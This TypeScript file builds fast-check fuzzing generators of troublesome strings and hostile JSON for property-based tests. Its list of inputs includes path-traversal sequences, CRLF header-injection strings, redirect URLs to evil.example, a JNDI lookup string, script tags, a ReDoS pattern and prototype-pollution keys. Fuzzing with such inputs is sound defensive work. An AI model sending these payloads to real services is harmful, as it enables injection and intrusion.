import fc from 'fast-check';

/** Texts that have got programs into trouble. */
const known = [
  ...[
    '',
    ' ',
    '.',
    '..',
    '../..',
    '/',
    '//',
    '\\',
    '\\\\',
    '/../',
    '%2e%2e',
    '%2F',
    '%00',
    '%',
    '%zz',
    '?',
    '#',
    '&',
    '=',
    ';',
  ],
  ...['@', '@evil.example', ':80', '//evil.example', 'https://evil.example/', '/\\evil.example', 'javascript:alert(1)'],
  ...[
    '\r\n',
    '\r\nHost: evil.example',
    '\nX-Injected: 1',
    '\u0000',
    '\t',
    '\u007f',
    '\u2028',
    '\ud800',
    '\u202e',
    '﻿',
    'é',
    '漢字',
    '😀',
  ],
  ...[
    '__proto__',
    'constructor',
    'prototype',
    'toString',
    'hasOwnProperty',
    '$ref',
    'x',
    '{x}',
    '{',
    '}',
    '[]',
    '*',
    '~',
    '~1',
    "'",
    '"',
  ],
  ...[
    '$' + '{jndi:ldap://evil.example}',
    '<script>',
    '<!--',
    '&amp;',
    '(a+)+$',
    '[',
    'null',
    'true',
    '0',
    '-1',
    '1e999',
    'NaN',
  ],
];

/** A text: a known trouble, several of them, or anything. */
export function hostileText(): fc.Arbitrary<string> {
  return fc.oneof(
    { weight: 4, arbitrary: fc.constantFrom(...known) },
    { weight: 2, arbitrary: fc.array(fc.constantFrom(...known), { maxLength: 4 }).map(parts => parts.join('')) },
    { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 20 }) },
    { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 20 }) },
  );
}

/** Any JSON value, its texts and keys hostile. Keys such as `__proto__` are own members, as `JSON.parse` makes them. */
export function hostileJson(): fc.Arbitrary<fc.JsonValue> {
  const { value } = fc.letrec<{ value: fc.JsonValue }>(tie => ({
    value: fc.oneof(
      { maxDepth: 3, depthSize: 'small' },
      hostileText(),
      fc.oneof(
        fc.integer(),
        fc.double({ noNaN: true, noDefaultInfinity: true }).map(plainZero),
        fc.boolean(),
        fc.constant(null),
      ),
      fc.array(tie('value'), { maxLength: 4 }),
      fc.array(fc.tuple(hostileText(), tie('value')), { maxLength: 4 }).map(entries => Object.fromEntries(entries)),
    ),
  }));
  return value;
}

/** JSON does not tell -0 from 0. */
function plainZero(number: number): number {
  return number === 0 ? 0 : number;
}
